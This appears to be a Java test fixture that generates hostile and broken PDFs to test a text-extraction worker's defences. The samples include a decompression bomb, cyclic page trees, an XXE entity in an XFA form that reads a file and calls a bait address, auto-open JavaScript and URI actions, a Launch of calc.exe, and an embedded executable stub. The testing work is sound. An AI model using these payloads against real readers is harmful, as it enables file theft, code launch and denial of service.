package org.ettle.evidence.document;

import static org.ettle.evidence.document.Hostile.read;
import static org.ettle.evidence.document.Hostile.refused;
import static org.ettle.evidence.document.Made.FONT;
import static org.ettle.evidence.document.Made.SENTENCE;
import static org.ettle.evidence.document.Made.deflated;
import static org.ettle.evidence.document.Made.latin;
import static org.ettle.evidence.document.Made.pdf;
import static org.ettle.evidence.document.Made.shown;
import static org.ettle.evidence.document.Made.stream;
import static org.ettle.evidence.document.worker.Unread.DAMAGED;
import static org.ettle.evidence.document.worker.Unread.LOCKED;
import static org.ettle.evidence.document.worker.Unread.NESTED_TOO_DEEP;
import static org.ettle.evidence.document.worker.Unread.NO_WORDS;
import static org.ettle.evidence.document.worker.Unread.TOOK_TOO_LONG;
import static org.ettle.evidence.document.worker.Unread.TOOK_TOO_MUCH;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.ettle.evidence.document.worker.Remark;

/// PDFs that were made to do harm, or are broken.
final class HostilePdfs {

    private static final String PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";
    private static final String PAGE =
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 4 0 R>>/XObject<</X 6 0 R>>>>/Contents 5 0 R/Annots[7 0 R]>>";

    private HostilePdfs() {}

    static List<Hostile> all(Bait bait) {
        return List.of(
                refused("a pdf that a password locks", "pdf", HostilePdfs::locked, LOCKED),
                read(
                                "a tree of pages that leads to itself",
                                "pdf",
                                HostilePdfs::cyclicPages,
                                Remark.Kind.PART_MISSING)
                        .orRefused(DAMAGED, NO_WORDS, NESTED_TOO_DEEP),
                read("pages in pages, twenty thousand deep", "pdf", HostilePdfs::deepPages)
                        .orRefused(DAMAGED, NO_WORDS, NESTED_TOO_DEEP),
                read("ten thousand pages", "pdf", () -> pdf(10_000)),
                read(
                                "a milliard pages that are not there",
                                "pdf",
                                () -> one("", shown(SENTENCE), "", "/Count 1000000000"),
                                Remark.Kind.PART_MISSING)
                        .orRefused(DAMAGED, NO_WORDS),
                read(
                        "a picture of ten milliard points",
                        "pdf",
                        () ->
                                one(
                                        "<</Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode/Length 8>>\nstream\n12345678\nendstream",
                                        "/X Do " + shown(SENTENCE),
                                        "",
                                        "/Count 1")),
                read(
                        "a form that draws itself",
                        "pdf",
                        () ->
                                one(
                                        stream(
                                                "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>",
                                                "/X Do"),
                                        "/X Do " + shown(SENTENCE),
                                        "",
                                        "/Count 1")),
                read("an XFA form that asks for a file and an address", "pdf", () -> xfa(bait))
                        .orRefused(DAMAGED, NO_WORDS),
                read("actions that would open and send", "pdf", () -> actions(bait)),
                read(
                        "a link to a file elsewhere",
                        "pdf",
                        () ->
                                one(
                                        "null",
                                        shown(SENTENCE),
                                        "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\127.0.0.1@"
                                                + bait.port()
                                                + "\\\\share\\\\x)>>>>",
                                        "/Count 1")),
                read(
                        "a stream that stands at an address",
                        "pdf",
                        () ->
                                one(
                                        "<</Length 0/F<</FS/URL/F("
                                                + bait.address()
                                                + ")>>>>\nstream\n\nendstream",
                                        "/X Do " + shown(SENTENCE),
                                        "",
                                        "/Count 1")),
                read(
                        "a program attached",
                        "pdf",
                        HostilePdfs::attached,
                        Remark.Kind.ATTACHMENTS_NOT_READ),
                read("a hundred thousand objects", "pdf", HostilePdfs::manyObjects)
                        .orRefused(TOOK_TOO_LONG),
                read("a pdf cut in half", "pdf", HostilePdfs::half, Remark.Kind.PART_MISSING)
                        .orRefused(DAMAGED, NO_WORDS),
                read(
                                "a pdf whose table of objects is wrong",
                                "pdf",
                                () ->
                                        latin(
                                                new String(
                                                                pdf(2),
                                                                java.nio.charset.StandardCharsets
                                                                        .ISO_8859_1)
                                                        .replaceAll(
                                                                "startxref\n\\d+",
                                                                "startxref\n99999999")))
                        .orRefused(DAMAGED, NO_WORDS),
                read(
                                "half a gigabyte in a page's stream",
                                "pdf",
                                HostilePdfs::bomb,
                                Remark.Kind.PART_MISSING)
                        .orRefused(TOOK_TOO_MUCH, TOOK_TOO_LONG, DAMAGED, NO_WORDS)
                        .killing(),
                read("fifty filters on one stream", "pdf", HostilePdfs::manyFilters)
                        .orRefused(DAMAGED, NO_WORDS),
                read("arrays in arrays, two hundred thousand deep", "pdf", HostilePdfs::deepArrays)
                        .orRefused(DAMAGED, NO_WORDS, NESTED_TOO_DEEP),
                read("a length that is its own", "pdf", HostilePdfs::cyclicLength)
                        .orRefused(DAMAGED, NO_WORDS, NESTED_TOO_DEEP),
                read("a font that names itself", "pdf", HostilePdfs::cyclicFont)
                        .orRefused(DAMAGED, NO_WORDS, NESTED_TOO_DEEP),
                read(
                                "a pdf behind a web page",
                                "html",
                                () ->
                                        Made.joined(
                                                latin("<html><script>alert(1)</script></html>\n"),
                                                pdf(1)))
                        .orRefused(DAMAGED, NO_WORDS),
                read(
                                "a pdf that is an archive too",
                                "pdf",
                                () -> Made.joined(pdf(1), Made.zip(Map.of("x.exe", new byte[9]))))
                        .orRefused(DAMAGED),
                refused(
                        "the first line of a pdf",
                        "pdf",
                        () -> latin("%PDF-1.7\n"),
                        DAMAGED,
                        NO_WORDS),
                refused(
                        "a pdf without words",
                        "pdf",
                        () -> one("null", "0 0 9 9 re f", "", "/Count 1"),
                        NO_WORDS),
                read(
                                "text moved a hundred thousand times",
                                "pdf",
                                () ->
                                        one(
                                                "null",
                                                "BT /F1 9 Tf "
                                                        + "1 0 Td ".repeat(100_000)
                                                        + "("
                                                        + SENTENCE
                                                        + ") Tj ET",
                                                "",
                                                "/Count 1"))
                        .orRefused(TOOK_TOO_LONG),
                read(
                                "states saved a hundred thousand times",
                                "pdf",
                                () ->
                                        one(
                                                "null",
                                                "q ".repeat(100_000) + shown(SENTENCE),
                                                "",
                                                "/Count 1"))
                        .orRefused(TOOK_TOO_MUCH, TOOK_TOO_LONG, DAMAGED));
    }

    private static byte[] one(String object, String content, String annotation, String count) {
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        PAGES.replace("/Count 1", count),
                        PAGE,
                        FONT,
                        stream("", content),
                        object.isEmpty() ? "null" : object,
                        annotation.isEmpty() ? "null" : annotation));
    }

    private static byte[] locked() throws IOException {
        try (var document = Loader.loadPDF(pdf(1))) {
            document.protect(
                    new StandardProtectionPolicy("owner", "reader", new AccessPermission()));
            var out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] cyclicPages() {
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        "<</Type/Pages/Kids[3 0 R 2 0 R 6 0 R]/Count 5>>",
                        PAGE,
                        FONT,
                        stream("", shown(SENTENCE)),
                        "<</Type/Pages/Parent 2 0 R/Kids[2 0 R 6 0 R]/Count 3>>"));
    }

    private static byte[] deepPages() {
        int depth = 20_000;
        var objects =
                new ArrayList<>(
                        List.of(
                                "<</Type/Catalog/Pages 5 0 R>>",
                                FONT,
                                stream("", shown(SENTENCE)),
                                "<</Type/Page/Parent "
                                        + (4 + depth)
                                        + " 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 2 0 R>>>>/Contents 3 0 R>>"));
        for (int i = 0; i < depth; i++) {
            int next = i == depth - 1 ? 4 : 6 + i;
            objects.add(
                    "<</Type/Pages/Kids["
                            + next
                            + " 0 R]/Count 1"
                            + (i == 0 ? "" : "/Parent " + (4 + i) + " 0 R")
                            + ">>");
        }
        return pdf(objects);
    }

    private static byte[] xfa(Bait bait) {
        var form =
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY f SYSTEM \""
                        + bait.file()
                        + "\"><!ENTITY % a SYSTEM \""
                        + bait.address()
                        + "\">%a;]><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><field name=\"a\"><value><text>&f;</text></value></field></subform></template></xdp:xdp>";
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 6 0 R>>>>",
                        PAGES,
                        PAGE,
                        FONT,
                        stream("", shown(SENTENCE)),
                        stream("", form),
                        "null"));
    }

    private static byte[] actions(Bait bait) {
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\(\""
                                + bait.address()
                                + "\"\\))>>/AA<</WC<</S/URI/URI("
                                + bait.address()
                                + ")>>>>>>",
                        PAGES,
                        PAGE,
                        FONT,
                        stream("", shown(SENTENCE)),
                        "null",
                        "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)/Next<</S/SubmitForm/F<</FS/URL/F("
                                + bait.address()
                                + ")>>>>>>>>"));
    }

    private static byte[] attached() {
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(run.exe) 6 0 R]>>>>>>",
                        PAGES,
                        PAGE,
                        FONT,
                        stream("", shown(SENTENCE)),
                        "<</Type/Filespec/F(run.exe)/EF<</F 8 0 R>>>>",
                        "null",
                        stream("/Type/EmbeddedFile", "MZ\0\0\u0001\u0002")));
    }

    private static byte[] manyObjects() {
        var objects =
                new ArrayList<>(
                        List.of(
                                "<</Type/Catalog/Pages 2 0 R>>",
                                PAGES,
                                PAGE,
                                FONT,
                                stream("", shown(SENTENCE)),
                                "null",
                                "null"));
        for (int i = 0; i < 100_000; i++) {
            objects.add("<</A " + i + ">>");
        }
        return pdf(objects);
    }

    private static byte[] half() {
        var whole = pdf(40);
        return Arrays.copyOf(whole, whole.length / 2);
    }

    static byte[] bomb() throws IOException {
        var out = new ByteArrayOutputStream();
        try (var deflating = new java.util.zip.DeflaterOutputStream(out)) {
            deflating.write(latin(shown(SENTENCE) + " "));
            Made.fill(deflating, '(', 512L << 20);
        }
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        PAGES,
                        PAGE,
                        FONT,
                        stream("/Filter/FlateDecode", out.toByteArray())));
    }

    private static byte[] manyFilters() {
        var content = latin(shown(SENTENCE));
        for (int i = 0; i < 50; i++) {
            content = deflated(content);
        }
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        PAGES,
                        PAGE,
                        FONT,
                        stream("/Filter[" + "/FlateDecode ".repeat(50) + "]", content)));
    }

    private static byte[] deepArrays() {
        int depth = 200_000;
        return one("[".repeat(depth) + "]".repeat(depth), shown(SENTENCE), "", "/Count 1");
    }

    private static byte[] cyclicLength() {
        var content = shown(SENTENCE);
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        PAGES,
                        PAGE,
                        FONT,
                        "<</Length 5 0 R>>\nstream\n" + content + "\nendstream"));
    }

    private static byte[] cyclicFont() {
        return pdf(
                List.of(
                        "<</Type/Catalog/Pages 2 0 R>>",
                        PAGES,
                        PAGE,
                        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[4 0 R]/ToUnicode 4 0 R>>",
                        stream("", shown(SENTENCE))));
    }
}
